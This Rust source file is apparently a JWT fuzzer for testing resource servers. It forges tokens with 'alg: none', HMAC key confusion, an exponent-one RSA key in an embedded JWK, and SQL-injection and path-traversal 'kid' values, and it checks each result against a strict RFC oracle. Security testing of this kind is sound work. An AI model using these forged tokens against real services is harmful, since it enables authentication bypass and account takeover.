//! JWT mutations, structure-aware: a token is kept as header and claims
//! members (duplicates allowed, in order), a signature mode, and edits of the
//! final text, so a mutation can be JSON-level (a duplicate `alg`, an `exp`
//! of 1e308), JOSE-level (`alg: none`, the public key as an HMAC secret) or
//! text-level (padding, a fourth segment, a JWE-shaped token).
//!
//! The oracle ([`acceptable`]) is an independent strict reading of RFC 7515
//! and RFC 7519: a token a correct server may accept verifies under the
//! profile's key with the expected `alg`, has no `crit`, and carries valid
//! `exp`, `nbf`, `iss`, `aud` (and scope) — read with the last duplicate
//! member winning, as both RFCs allow. Anything else accepted is a finding.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use rand::RngExt as _;
use rand::rngs::StdRng;
use serde_json::{Map, Value, json};

use super::sign::Signer;

/// The valid token's parts, and what the oracle checks against.
#[derive(Debug)]
pub struct Base {
    /// Header members of a valid token.
    pub header: Vec<(String, Value)>,
    /// Claims of a valid token (times relative to when it is rendered).
    pub claims: Vec<(String, Value)>,
    /// The expected `alg`.
    pub alg: &'static str,
    /// Issuer and audience the resource expects.
    pub issuer: String,
    /// See `issuer`.
    pub audience: String,
    /// A scope the resource requires.
    pub scope: Option<String>,
    /// Clock leeway, seconds.
    pub leeway: i64,
    /// The public key as PEM (key confusion), for asymmetric keys.
    pub public_pem: Option<String>,
    /// The public JWK text, for asymmetric keys.
    pub public_jwk: Option<String>,
}

/// How the token is signed.
#[derive(Debug, Clone, PartialEq)]
pub enum Sig {
    /// With the profile's key over the final signing input.
    Valid,
    /// No signature (`a.b.`).
    Empty,
    /// The signature of the unmutated token (a tampered payload).
    Original,
    /// A valid signature with one bit flipped.
    Flip(usize),
    /// HMAC-SHA256 keyed with this (key confusion).
    Hmac(HmacKey),
    /// Random bytes.
    Garbage(usize),
    /// The encoded message, which verifies under an RSA key with e = 1.
    ExponentOne,
}

/// What key confusion uses as the HMAC secret.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum HmacKey {
    /// The public key's PEM text.
    PublicPem,
    /// The PEM text without its final newline.
    PublicPemTrimmed,
    /// The public JWK's text.
    PublicJwk,
    /// The empty key.
    Empty,
}

/// One mutation.
#[derive(Debug, Clone, PartialEq)]
pub enum Op {
    /// `alg` set to this value.
    SetAlg(Value),
    /// `alg: none` and no signature.
    AlgNone(&'static str),
    /// `alg: HS256` signed with public material as the secret.
    KeyConfusion(HmacKey),
    /// The signature replaced.
    Signature(Sig),
    /// A claim set (or added).
    SetClaim(String, Value),
    /// A claim duplicated with another value, before or after the original.
    DuplicateClaim(String, Value, bool),
    /// A header member duplicated with another value, before or after.
    DuplicateHeader(String, Value, bool),
    /// A claim removed.
    RemoveClaim(String),
    /// A header member added or replaced.
    SetHeader(String, Value),
    /// A header member removed.
    RemoveHeader(String),
    /// The claims replaced by this text (invalid or odd JSON).
    RawClaims(String),
    /// The header replaced by this text.
    RawHeader(String),
    /// A claim nested this deep in arrays.
    Nested(usize),
    /// A claim of this many bytes.
    Huge(usize),
    /// An edit of the final token text.
    Text(TextOp),
    /// The scheme and separator before the token.
    Scheme(&'static str),
    /// The token replaced by Wycheproof JWS vector i (signed with its own keys).
    Wycheproof(usize),
    /// Wycheproof JWK vector i's key as the header's `jwk`.
    EmbeddedJwk(usize),
    /// `alg: RS256`, Wycheproof's exponent-one key as `jwk`, and a signature
    /// that verifies under it (the encoded message): accepted only by a
    /// server that trusts keys tokens bring.
    ExponentOneJwk,
}

/// Edits of the compact serialization.
#[derive(Debug, Clone, PartialEq)]
pub enum TextOp {
    /// Only the first n segments.
    KeepSegments(usize),
    /// An extra segment appended.
    ExtraSegment(String),
    /// A JWE-shaped token (five segments) with this protected header.
    JweShaped(String),
    /// `=` padding on segment i.
    Pad(usize),
    /// The standard base64 alphabet (`+`, `/`) where the token has `-`, `_`.
    StandardAlphabet,
    /// Cut at this fraction of the length (per mille).
    Truncate(u16),
    /// Text appended.
    Append(String),
    /// Text inserted at a position (per mille).
    Insert(u16, String),
    /// Letters' case swapped.
    SwapCase,
    /// The last character of segment i changed so only unused low bits differ.
    TrailingBits(usize),
    /// Raw bytes inserted at a position (per mille): non-ASCII or control.
    Bytes(u16, Vec<u8>),
    /// The token twice, separated by a space.
    Twice,
}

/// A token being mutated.
#[derive(Debug, Clone)]
pub struct Jwt {
    header: Vec<(String, Value)>,
    claims: Vec<(String, Value)>,
    raw_header: Option<String>,
    raw_claims: Option<String>,
    sig: Sig,
    text: Vec<TextOp>,
    scheme: &'static str,
    /// A token that replaces the rendered one (a Wycheproof vector).
    replaced: Option<String>,
}

fn object_text(members: &[(String, Value)]) -> String {
    let parts: Vec<String> =
        members.iter().map(|(k, v)| format!("{}:{v}", Value::String(k.clone()))).collect();
    format!("{{{}}}", parts.join(","))
}

fn set(members: &mut Vec<(String, Value)>, name: &str, value: Value) {
    match members.iter_mut().rev().find(|(k, _)| k == name) {
        Some(m) => m.1 = value,
        None => members.push((name.to_owned(), value)),
    }
}

/// The times candidates are minted with: now, rounded down to the minute.
/// Tokens minted within a minute then share their signing inputs, so the
/// signer's memory spares most RSA signatures (a valid token still has
/// four minutes left; the edge values stay on their side of every bound).
fn minted_at() -> i64 {
    let t = now();
    t - t.rem_euclid(60)
}

fn now() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_secs() as i64)
}

/// Edge values for a claim or header member, for `name`.
fn edge_value(rng: &mut StdRng, name: &str, base: &Base) -> Value {
    let now = minted_at();
    let times = [
        json!(0),
        json!(-1),
        json!(1.5),
        json!(now - base.leeway - 60),
        json!(now - 3600),
        json!(now + base.leeway + 60),
        json!(now + 31_536_000_000_i64),
        json!(i64::MAX),
        json!(u64::MAX),
        json!(9_007_199_254_740_993_i64),
        json!(1e308),
        json!(-1e308),
        json!(1e-7),
        json!((now + 300) as f64 + 0.5),
        json!(format!("{}", now + 300)),
        json!(null),
        json!(true),
        json!([now + 300]),
        json!({ "$date": now + 300 }),
    ];
    let strings = [
        json!(""),
        json!(base.issuer.to_uppercase()),
        json!(format!("{} ", base.issuer)),
        json!(format!("{}\u{0000}", base.audience)),
        json!(format!("{}/", base.audience)),
        json!("https://attacker.authbench.invalid"),
        json!([base.audience.clone(), "other"]),
        json!(["other"]),
        json!([]),
        json!({ "aud": base.audience }),
        json!("admin"),
        json!("read write admin"),
        json!("\u{212A}elvin"),
        json!("a".repeat(4096)),
        json!(null),
        json!(12345),
    ];
    match name {
        "exp" | "nbf" | "iat" => times[rng.random_range(0..times.len())].clone(),
        _ => strings[rng.random_range(0..strings.len())].clone(),
    }
}

const CLAIM_NAMES: [&str; 9] = ["exp", "nbf", "iat", "iss", "aud", "sub", "scope", "jti", "azp"];
const ALG_VALUES: [&str; 12] = [
    "none", "None", "NONE", "HS256", "HS512", "RS256", "ES256", "EdDSA", "PS256", "", "RS256 ",
    "hs256",
];

impl Op {
    /// A random mutation for a target whose key is asymmetric (`asymmetric`).
    pub fn random(rng: &mut StdRng, base: &Base, asymmetric: bool) -> Op {
        let claim = |rng: &mut StdRng| CLAIM_NAMES[rng.random_range(0..CLAIM_NAMES.len())];
        match rng.random_range(0..106) {
            100..=103 => Op::Wycheproof(rng.random_range(0..super::wycheproof::vector_count())),
            104 => Op::EmbeddedJwk(rng.random_range(0..super::wycheproof::data().keys.len())),
            105 => Op::ExponentOneJwk,
            0..=4 => Op::SetAlg(match rng.random_range(0..4) {
                0 => json!(null),
                1 => json!([base.alg]),
                2 => json!(0),
                _ => json!(ALG_VALUES[rng.random_range(0..ALG_VALUES.len())]),
            }),
            5..=9 => Op::AlgNone(["none", "None", "NONE", "nOnE"][rng.random_range(0..4)]),
            10..=14 if asymmetric => Op::KeyConfusion(
                [HmacKey::PublicPem, HmacKey::PublicPemTrimmed, HmacKey::PublicJwk, HmacKey::Empty]
                    [rng.random_range(0..4)],
            ),
            10..=19 => Op::Signature(match rng.random_range(0..5) {
                0 => Sig::Empty,
                1 => Sig::Original,
                2 => Sig::Flip(rng.random_range(0..512)),
                3 => Sig::Garbage(rng.random_range(0..600)),
                _ => Sig::Hmac(HmacKey::Empty),
            }),
            20..=39 => {
                let name = claim(rng);
                Op::SetClaim(name.to_owned(), edge_value(rng, name, base))
            }
            40..=47 => {
                let name = claim(rng);
                Op::DuplicateClaim(name.to_owned(), edge_value(rng, name, base), rng.random())
            }
            48..=51 => Op::DuplicateHeader(
                "alg".to_owned(),
                json!(ALG_VALUES[rng.random_range(0..ALG_VALUES.len())]),
                rng.random(),
            ),
            52..=55 => Op::RemoveClaim(claim(rng).to_owned()),
            56..=62 => {
                let (name, value) = match rng.random_range(0..10) {
                    0 => ("kid", json!("../../../../../../dev/null")),
                    1 => ("kid", json!("' OR '1'='1")),
                    2 => ("kid", json!("")),
                    3 => ("jku", json!("https://attacker.authbench.invalid/jwks.json")),
                    4 => ("x5u", json!("https://attacker.authbench.invalid/cert.pem")),
                    5 => ("crit", json!(["exp"])),
                    6 => ("b64", json!(false)),
                    7 => ("typ", json!(["JWT"])),
                    8 => ("cty", json!("JWT")),
                    _ => ("zip", json!("DEF")),
                };
                Op::SetHeader(name.to_owned(), value)
            }
            63..=64 => Op::RemoveHeader(["alg", "typ", "kid"][rng.random_range(0..3)].to_owned()),
            65..=69 => Op::RawClaims(
                [
                    "",
                    "null",
                    "[]",
                    "{",
                    "{\"exp\":1e999}",
                    "{\"exp\":NaN}",
                    "\u{feff}{}",
                    "{\"sub\":\"a\",}",
                    "{'sub':'a'}",
                    "{\"sub\":\"\\ud800\"}",
                    "{\"exp\":-0}",
                ][rng.random_range(0..11)]
                    .to_owned(),
            ),
            70..=72 => Op::RawHeader(
                [
                    "",
                    "{}",
                    "{\"alg\":\"none\"",
                    "{\"ALG\":\"none\"}",
                    "{\"alg\":\"none\",\"alg\":\"RS256\"}",
                    "[\"alg\"]",
                ][rng.random_range(0..6)]
                    .to_owned(),
            ),
            73..=74 => Op::Nested([16, 256, 4096, 100_000][rng.random_range(0..4)]),
            75..=76 => Op::Huge([1024, 16_384, 65_536, 200_000][rng.random_range(0..4)]),
            77..=94 => Op::Text(match rng.random_range(0..12) {
                0 => TextOp::KeepSegments(rng.random_range(0..3)),
                1 => TextOp::ExtraSegment(["", "e30", "AAAA"][rng.random_range(0..3)].to_owned()),
                2 => TextOp::JweShaped(
                    [
                        r#"{"alg":"RSA-OAEP-256","enc":"A256GCM"}"#,
                        r#"{"alg":"dir","enc":"A128CBC-HS256"}"#,
                        r#"{"alg":"PBES2-HS256+A128KW","enc":"A128GCM","p2s":"AAAAAAAAAAA","p2c":2147483647}"#,
                        r#"{"alg":"ECDH-ES","enc":"A256GCM","epk":{"kty":"EC","crv":"P-256","x":"AA","y":"AA"}}"#,
                    ][rng.random_range(0..4)]
                        .to_owned(),
                ),
                3 => TextOp::Pad(rng.random_range(0..3)),
                4 => TextOp::StandardAlphabet,
                5 => TextOp::Truncate(rng.random_range(0..1000)),
                6 => TextOp::Append([".", "=", " ", "x", "\t"][rng.random_range(0..5)].to_owned()),
                7 => TextOp::Insert(
                    rng.random_range(0..1000),
                    [" ", ".", "%2E", "=", "+", "/", "\\"][rng.random_range(0..7)].to_owned(),
                ),
                8 => TextOp::SwapCase,
                9 => TextOp::TrailingBits(rng.random_range(0..3)),
                10 => TextOp::Bytes(
                    rng.random_range(0..1000),
                    [vec![0u8], vec![0x7f], vec![0xff], vec![0xc3, 0x28], vec![0x01]]
                        [rng.random_range(0..5)]
                        .clone(),
                ),
                _ => TextOp::Twice,
            }),
            _ => Op::Scheme(
                ["bearer ", "BEARER ", "Bearer  ", "Bearer\t", "", "Basic ", "Token ", "DPoP "]
                    [rng.random_range(0..8)],
            ),
        }
    }

    /// A short name for reports.
    pub fn name(&self) -> String {
        match self {
            Op::SetAlg(v) => format!("alg={v}"),
            Op::AlgNone(s) => format!("alg-none({s})"),
            Op::KeyConfusion(k) => format!("key-confusion({k:?})"),
            Op::Signature(s) => format!("signature({s:?})"),
            Op::SetClaim(n, v) => format!("claim {n}={}", short(v)),
            Op::DuplicateClaim(n, v, first) => {
                format!(
                    "duplicate claim {n}={} {}",
                    short(v),
                    if *first { "first" } else { "last" }
                )
            }
            Op::DuplicateHeader(n, v, first) => {
                format!("duplicate header {n}={v} {}", if *first { "first" } else { "last" })
            }
            Op::RemoveClaim(n) => format!("no {n}"),
            Op::SetHeader(n, v) => format!("header {n}={}", short(v)),
            Op::RemoveHeader(n) => format!("no header {n}"),
            Op::RawClaims(t) => format!("claims text {}", short(&json!(t))),
            Op::RawHeader(t) => format!("header text {}", short(&json!(t))),
            Op::Nested(d) => format!("nested {d}"),
            Op::Huge(n) => format!("claim of {n} bytes"),
            Op::Text(t) => format!("{t:?}"),
            Op::Scheme(s) => format!("scheme {s:?}"),
            Op::Wycheproof(i) => super::wycheproof::vectors().nth(*i).map_or_else(
                || format!("wycheproof #{i}"),
                |v| format!("wycheproof tcId {} ({})", v.id, v.comment),
            ),
            Op::EmbeddedJwk(i) => super::wycheproof::data().keys.get(*i).map_or_else(
                || format!("embedded jwk #{i}"),
                |k| format!("embedded jwk: {}", k.comment),
            ),
            Op::ExponentOneJwk => "embedded jwk with e = 1, signature = encoded message".to_owned(),
        }
    }
}

fn short(v: &Value) -> String {
    let s = v.to_string();
    if s.len() > 40 { format!("{}…", &s[..s.floor_char_boundary(40)]) } else { s }
}

impl Jwt {
    /// The valid token, unmutated.
    pub fn valid(base: &Base) -> Jwt {
        let now = minted_at();
        let mut claims = base.claims.clone();
        set(&mut claims, "iat", json!(now));
        set(&mut claims, "nbf", json!(now));
        set(&mut claims, "exp", json!(now + 300));
        Jwt {
            header: base.header.clone(),
            claims,
            raw_header: None,
            raw_claims: None,
            sig: Sig::Valid,
            text: Vec::new(),
            scheme: "Bearer ",
            replaced: None,
        }
    }

    /// Applies `op`.
    pub fn apply(&mut self, op: &Op) {
        match op {
            Op::SetAlg(v) => set(&mut self.header, "alg", v.clone()),
            Op::AlgNone(s) => {
                set(&mut self.header, "alg", json!(s));
                self.sig = Sig::Empty;
            }
            Op::KeyConfusion(k) => {
                set(&mut self.header, "alg", json!("HS256"));
                self.sig = Sig::Hmac(*k);
            }
            Op::Signature(s) => self.sig = s.clone(),
            Op::SetClaim(n, v) => set(&mut self.claims, n, v.clone()),
            Op::DuplicateClaim(n, v, first) => {
                let m = (n.clone(), v.clone());
                if *first { self.claims.insert(0, m) } else { self.claims.push(m) }
            }
            Op::DuplicateHeader(n, v, first) => {
                let m = (n.clone(), v.clone());
                if *first { self.header.insert(0, m) } else { self.header.push(m) }
            }
            Op::RemoveClaim(n) => self.claims.retain(|(k, _)| k != n),
            Op::SetHeader(n, v) => set(&mut self.header, n, v.clone()),
            Op::RemoveHeader(n) => self.header.retain(|(k, _)| k != n),
            Op::RawClaims(t) => self.raw_claims = Some(t.clone()),
            Op::RawHeader(t) => self.raw_header = Some(t.clone()),
            Op::Nested(depth) => {
                let text = format!("{}{}", "[".repeat(*depth), "]".repeat(*depth));
                let claims = self.raw_claims.take().unwrap_or_else(|| object_text(&self.claims));
                self.raw_claims = Some(match claims.strip_suffix('}') {
                    Some(open) if open.len() > 1 => format!("{open},\"deep\":{text}}}"),
                    _ => format!("{{\"deep\":{text}}}"),
                });
            }
            Op::Huge(n) => self.claims.push(("pad".to_owned(), json!("A".repeat(*n)))),
            Op::Text(t) => self.text.push(t.clone()),
            Op::Scheme(s) => self.scheme = s,
            Op::Wycheproof(i) => {
                self.replaced = super::wycheproof::vectors().nth(*i).map(|v| v.jws.clone());
            }
            Op::EmbeddedJwk(i) => {
                if let Some(k) = super::wycheproof::data().keys.get(*i) {
                    set(&mut self.header, "jwk", k.jwk.clone());
                }
            }
            Op::ExponentOneJwk => {
                if let Some(k) = super::wycheproof::exponent_one() {
                    set(&mut self.header, "alg", json!("RS256"));
                    set(&mut self.header, "jwk", k.clone());
                    self.header.retain(|(name, _)| name != "kid");
                    self.sig = Sig::ExponentOne;
                }
            }
        }
    }

    /// The Authorization value (`scheme token`, possibly with non-ASCII or
    /// control bytes), signed with `signer` where the signature mode asks.
    pub fn render(&self, base: &Base, signer: &Signer) -> Vec<u8> {
        let header = self.raw_header.clone().unwrap_or_else(|| object_text(&self.header));
        let claims = self.raw_claims.clone().unwrap_or_else(|| object_text(&self.claims));
        let input = format!(
            "{}.{}",
            URL_SAFE_NO_PAD.encode(header.as_bytes()),
            URL_SAFE_NO_PAD.encode(claims.as_bytes())
        );
        let hmac_with = |secret: &[u8]| {
            aws_lc_rs::hmac::sign(
                &aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, secret),
                input.as_bytes(),
            )
            .as_ref()
            .to_vec()
        };
        let sig: Vec<u8> = match &self.sig {
            Sig::Valid => signer.sign(input.as_bytes()),
            Sig::Empty => Vec::new(),
            Sig::Original => {
                let valid = Jwt::valid(base);
                let header = object_text(&valid.header);
                let claims = object_text(&valid.claims);
                let original = format!(
                    "{}.{}",
                    URL_SAFE_NO_PAD.encode(header.as_bytes()),
                    URL_SAFE_NO_PAD.encode(claims.as_bytes())
                );
                signer.sign(original.as_bytes())
            }
            Sig::Flip(bit) => {
                let mut s = signer.sign(input.as_bytes());
                if !s.is_empty() {
                    let at = (bit / 8) % s.len();
                    s[at] ^= 1 << (bit % 8);
                }
                s
            }
            Sig::Hmac(key) => match key {
                HmacKey::PublicPem => {
                    hmac_with(base.public_pem.as_deref().unwrap_or("").as_bytes())
                }
                HmacKey::PublicPemTrimmed => {
                    hmac_with(base.public_pem.as_deref().unwrap_or("").trim_end().as_bytes())
                }
                HmacKey::PublicJwk => {
                    hmac_with(base.public_jwk.as_deref().unwrap_or("").as_bytes())
                }
                HmacKey::Empty => hmac_with(b""),
            },
            Sig::Garbage(n) => (0..*n).map(|i| (i * 31 + 7) as u8).collect(),
            Sig::ExponentOne => super::wycheproof::exponent_one()
                .and_then(|k| k["n"].as_str())
                .and_then(|n| super::wycheproof::exponent_one_signature(n, input.as_bytes()))
                .unwrap_or_default(),
        };
        let mut token = match &self.replaced {
            Some(t) => t.clone().into_bytes(),
            None => format!("{input}.{}", URL_SAFE_NO_PAD.encode(&sig)).into_bytes(),
        };
        for op in &self.text {
            token = edit(token, op);
        }
        let mut value = self.scheme.as_bytes().to_vec();
        value.extend_from_slice(&token);
        value
    }
}

fn at(len: usize, per_mille: u16) -> usize {
    len * usize::from(per_mille.min(1000)) / 1000
}

fn edit(token: Vec<u8>, op: &TextOp) -> Vec<u8> {
    let text = || String::from_utf8_lossy(&token).into_owned();
    match op {
        TextOp::KeepSegments(n) => {
            let t = text();
            t.split('.').take(*n).collect::<Vec<_>>().join(".").into_bytes()
        }
        TextOp::ExtraSegment(s) => format!("{}.{s}", text()).into_bytes(),
        TextOp::JweShaped(h) => {
            let t = text();
            let payload = t.split('.').nth(1).unwrap_or("");
            format!(
                "{}.{}.{}.{payload}.{}",
                URL_SAFE_NO_PAD.encode(h.as_bytes()),
                URL_SAFE_NO_PAD.encode([7u8; 256]),
                URL_SAFE_NO_PAD.encode([1u8; 12]),
                URL_SAFE_NO_PAD.encode([2u8; 16]),
            )
            .into_bytes()
        }
        TextOp::Pad(i) => {
            let t = text();
            let parts: Vec<String> = t
                .split('.')
                .enumerate()
                .map(|(n, s)| {
                    if n == *i && s.len() % 4 != 0 {
                        format!("{s}{}", "=".repeat(4 - s.len() % 4))
                    } else {
                        s.to_owned()
                    }
                })
                .collect();
            parts.join(".").into_bytes()
        }
        TextOp::StandardAlphabet => token
            .into_iter()
            .map(|b| match b {
                b'-' => b'+',
                b'_' => b'/',
                b => b,
            })
            .collect(),
        TextOp::Truncate(p) => {
            let mut t = token;
            t.truncate(at(t.len(), *p));
            t
        }
        TextOp::Append(s) => {
            let mut t = token;
            t.extend_from_slice(s.as_bytes());
            t
        }
        TextOp::Insert(p, s) => {
            let mut t = token;
            let i = at(t.len(), *p);
            t.splice(i..i, s.bytes());
            t
        }
        TextOp::SwapCase => token
            .into_iter()
            .map(|b| {
                if b.is_ascii_lowercase() { b.to_ascii_uppercase() } else { b.to_ascii_lowercase() }
            })
            .collect(),
        TextOp::TrailingBits(i) => {
            let t = text();
            let parts: Vec<String> = t
                .split('.')
                .enumerate()
                .map(|(n, s)| if n == *i { flip_trailing_bits(s) } else { s.to_owned() })
                .collect();
            parts.join(".").into_bytes()
        }
        TextOp::Bytes(p, bytes) => {
            let mut t = token;
            let i = at(t.len(), *p);
            t.splice(i..i, bytes.iter().copied());
            t
        }
        TextOp::Twice => {
            let mut t = token.clone();
            t.push(b' ');
            t.extend_from_slice(&token);
            t
        }
    }
}

/// The same bytes to a lenient decoder: the last character's unused low bits set.
fn flip_trailing_bits(segment: &str) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let unused = match segment.len() % 4 {
        2 => 4,
        3 => 2,
        _ => return segment.to_owned(),
    };
    let Some(last) = segment.bytes().last() else { return segment.to_owned() };
    let Some(index) = ALPHABET.iter().position(|c| *c == last) else {
        return segment.to_owned();
    };
    let flipped = ALPHABET[(index | ((1 << unused) - 1)) % 64];
    format!("{}{}", &segment[..segment.len() - 1], char::from(flipped))
}

/// The top-level members of a JSON object, the last duplicate winning (RFC
/// 7515 §4, RFC 7519 §4), each value parsed on its own: nesting deep inside a
/// member is valid JSON and must not trip a parser's recursion limit here.
fn members(bytes: &[u8]) -> Option<Map<String, Value>> {
    let raw: std::collections::HashMap<String, &serde_json::value::RawValue> =
        serde_json::from_slice(bytes).ok()?;
    Some(
        raw.into_iter()
            .map(|(k, v)| (k, serde_json::from_str(v.get()).unwrap_or(Value::Null)))
            .collect(),
    )
}

/// Whether a correct resource server may accept `value` (the Authorization
/// header's bytes), at time `now`; `None` when it is too close to a time
/// boundary to judge.
pub fn acceptable(value: &[u8], base: &Base, signer: &Signer, now: i64) -> Option<bool> {
    let Ok(value) = std::str::from_utf8(value) else { return Some(false) };
    // OWS around the field value is not part of it (RFC 9110 §5.5).
    let value = value.trim_matches([' ', '\t']);
    let Some((scheme, token)) = value.split_once(' ') else { return Some(false) };
    // The scheme is case-insensitive, followed by one or more spaces (RFC 9110 §11.4).
    if !scheme.eq_ignore_ascii_case("bearer") {
        return Some(false);
    }
    let token = token.trim_start_matches(' ');
    let parts: Vec<&str> = token.split('.').collect();
    let [h, p, s] = parts[..] else { return Some(false) };
    let strict = |seg: &str| -> Option<Vec<u8>> {
        if seg.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_') {
            URL_SAFE_NO_PAD.decode(seg).ok()
        } else {
            None
        }
    };
    let (Some(hb), Some(pb), Some(sig)) = (strict(h), strict(p), strict(s)) else {
        return Some(false);
    };
    // Unknown header parameters are ignored (RFC 7515 §4): `zip` is JWE's,
    // `b64` means something only when listed in `crit`, which is refused.
    let Some(header) = members(&hb) else { return Some(false) };
    if header.get("alg").and_then(Value::as_str) != Some(base.alg) || header.contains_key("crit") {
        return Some(false);
    }
    if !signer.verify(format!("{h}.{p}").as_bytes(), &sig) {
        return Some(false);
    }
    let Some(claims) = members(&pb) else { return Some(false) };
    const MARGIN: f64 = 3.0;
    let (now, leeway) = (now as f64, base.leeway as f64);
    let Some(exp) = claims.get("exp").and_then(Value::as_f64) else { return Some(false) };
    if (exp - (now - leeway)).abs() < MARGIN {
        return None;
    }
    if exp <= now - leeway {
        return Some(false);
    }
    if let Some(nbf) = claims.get("nbf") {
        let Some(nbf) = nbf.as_f64() else { return Some(false) };
        if (nbf - (now + leeway)).abs() < MARGIN {
            return None;
        }
        if nbf > now + leeway {
            return Some(false);
        }
    }
    if let Some(iat) = claims.get("iat")
        && !iat.is_number()
    {
        return Some(false);
    }
    if claims.get("iss").and_then(Value::as_str) != Some(base.issuer.as_str()) {
        return Some(false);
    }
    let aud_ok = match claims.get("aud") {
        Some(Value::String(a)) => a == &base.audience,
        Some(Value::Array(list)) => list.iter().any(|a| a.as_str() == Some(&base.audience)),
        _ => false,
    };
    if !aud_ok {
        return Some(false);
    }
    if let Some(required) = &base.scope {
        let has = claims
            .get("scope")
            .and_then(Value::as_str)
            .is_some_and(|s| s.split(' ').any(|x| x == required));
        if !has {
            return Some(false);
        }
    }
    Some(true)
}

#[cfg(test)]
mod tests {
    use super::*;
    use jsonwebtoken::Algorithm;

    fn base() -> (Base, Signer) {
        let key = crate::target::SigningKey {
            algorithm: Algorithm::HS256,
            encoding: jsonwebtoken::EncodingKey::from_secret(b"secret").unwrap(),
            material: b"secret".to_vec(),
            public_pem: None,
        };
        let base = Base {
            header: vec![("alg".into(), json!("HS256")), ("typ".into(), json!("at+jwt"))],
            claims: vec![
                ("iss".into(), json!("https://issuer")),
                ("aud".into(), json!("api")),
                ("sub".into(), json!("alice")),
            ],
            alg: "HS256",
            issuer: "https://issuer".into(),
            audience: "api".into(),
            scope: None,
            leeway: 30,
            public_pem: None,
            public_jwk: None,
        };
        (base, Signer::new(&key).unwrap())
    }

    fn judge(ops: &[Op]) -> Option<bool> {
        let (base, signer) = base();
        let mut t = Jwt::valid(&base);
        for op in ops {
            t.apply(op);
        }
        acceptable(&t.render(&base, &signer), &base, &signer, now())
    }

    #[test]
    fn the_valid_token_is_acceptable_and_each_attack_is_not() {
        assert_eq!(judge(&[]), Some(true));
        assert_eq!(judge(&[Op::Scheme("bearer  ")]), Some(true));
        assert_eq!(judge(&[Op::AlgNone("none")]), Some(false));
        assert_eq!(judge(&[Op::Signature(Sig::Flip(3))]), Some(false));
        assert_eq!(
            judge(&[Op::SetClaim("sub".into(), json!("admin")), Op::Signature(Sig::Original)]),
            Some(false)
        );
        assert_eq!(judge(&[Op::SetClaim("exp".into(), json!(now() - 3600))]), Some(false));
        assert_eq!(judge(&[Op::SetClaim("exp".into(), json!("99999999999"))]), Some(false));
        assert_eq!(judge(&[Op::SetHeader("crit".into(), json!(["exp"]))]), Some(false));
        assert_eq!(judge(&[Op::Text(TextOp::Append("=".into()))]), Some(false));
        assert!(!judge(&[Op::Text(TextOp::TrailingBits(2))]).unwrap_or(false));
        assert_eq!(judge(&[Op::Text(TextOp::KeepSegments(2))]), Some(false));
    }

    #[test]
    fn the_last_duplicate_wins() {
        // A valid exp after an expired one: last wins, so acceptable.
        let expired = json!(now() - 3600);
        assert_eq!(judge(&[Op::DuplicateClaim("exp".into(), expired.clone(), true)]), Some(true));
        // An expired exp last: not acceptable, whatever came first.
        assert_eq!(judge(&[Op::DuplicateClaim("exp".into(), expired, false)]), Some(false));
        assert_eq!(judge(&[Op::DuplicateHeader("alg".into(), json!("none"), false)]), Some(false));
    }

    #[test]
    fn a_fractional_exp_is_a_numeric_date() {
        assert_eq!(judge(&[Op::SetClaim("exp".into(), json!(now() as f64 + 300.5))]), Some(true));
    }

    #[test]
    fn trailing_bits_change_only_unused_bits() {
        let s = URL_SAFE_NO_PAD.encode(b"ab");
        let flipped = flip_trailing_bits(&s);
        assert_ne!(s, flipped);
        let lenient = base64::engine::GeneralPurpose::new(
            &base64::alphabet::URL_SAFE,
            base64::engine::GeneralPurposeConfig::new()
                .with_decode_allow_trailing_bits(true)
                .with_encode_padding(false)
                .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent),
        );
        assert_eq!(lenient.decode(&flipped).unwrap(), b"ab");
    }
}
